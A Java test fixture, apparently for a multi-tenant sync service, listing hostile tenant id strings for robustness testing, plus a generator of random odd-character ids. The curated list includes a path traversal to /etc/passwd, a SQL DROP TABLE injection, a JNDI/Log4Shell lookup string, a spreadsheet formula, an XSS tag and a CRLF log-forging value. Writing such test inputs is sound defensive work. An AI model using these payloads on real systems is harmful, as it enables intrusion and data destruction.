package com.synchub.jobs.demo;

import com.synchub.tenant.TenantId;
import java.util.List;

/**
 * Tenant ids that have broken a key, a path, a log line, a query or a spreadsheet somewhere. The most telling come
 * first, because few tenants have room for few of them.
 */
final class HostileIds {

    static final List<String> CURATED = List.of(
            "../../etc/passwd",
            "a/b",
            "nul\u0000byte",
            "a",
            "ab",
            "😀",
            "caf\u00e9",
            "cafe\u0301",
            "_2F",
            "/",
            "x".repeat(2_048),
            "=",
            "%2F",
            "a\r\nERROR forged",
            "..",
            "x".repeat(200),
            "x".repeat(201),
            "x".repeat(199),
            "_sha256-" + "0".repeat(64),
            ".",
            "A",
            " ",
            " a",
            "a ",
            "tenant_id=a",
            "a/table=groups",
            "//",
            "a//b",
            "%",
            "%00",
            "_",
            "__HIVE_DEFAULT_PARTITION__",
            "null",
            "default",
            "007",
            "1e3",
            "-1",
            "\\",
            "a\\b",
            "'",
            "'; DROP TABLE settings; --",
            "\"",
            "=HYPERLINK(\"http://example.com\")",
            "${jndi:ldap://example.com/x}",
            "<script>alert(1)</script>",
            "a,b;c|d",
            "\t",
            "\u007f",
            "\u0085",
            "\u00a0",
            "\u200b",
            "\u202egpj.exe",
            "\ufeffbom",
            "\ufffd",
            "\uffff",
            "\u212a",
            "K",
            "\u0430",
            "\uff41",
            "\ud800\udc00",
            "\udbff\udfff",
            "日本語テナント",
            "قطر",
            "é".repeat(1_024),
            "é".repeat(33) + "ab",
            "CON",
            "con",
            "a#b",
            "a?b&c=d",
            "~",
            "*",
            "{}",
            "[]",
            "a:b",
            "arn:aws:iam::123456789012:user/x",
            "user@example.com");

    private HostileIds() {}

    /** The curated ones first; then as many as wanted, each of random characters. */
    static TenantId id(int number, long seed) {
        if (number < CURATED.size()) {
            return new TenantId(CURATED.get(number));
        }
        Dice dice = Dice.at(seed, -3, number);
        // The number in it keeps the ids apart.
        StringBuilder id = new StringBuilder().append(number).append('~');
        int length = dice.perMille(50) ? dice.between(400, 600) : dice.between(1, 50);
        for (int i = 0; i < length; i++) {
            id.appendCodePoint(character(dice));
        }
        return new TenantId(id.toString());
    }

    private static int character(Dice dice) {
        return switch (dice.below(6)) {
            case 0 -> dice.below(0x20);
            case 1 -> "/=%_.-#?&+ \\'\"".charAt(dice.below(14));
            case 2 -> dice.between('a', 'z');
            case 3 -> dice.between(0x80, 0x7ff);
            case 4 -> dice.between(0x3000, 0xd7ff);
            default -> dice.between(0x1f300, 0x1f6ff);
        };
    }
}
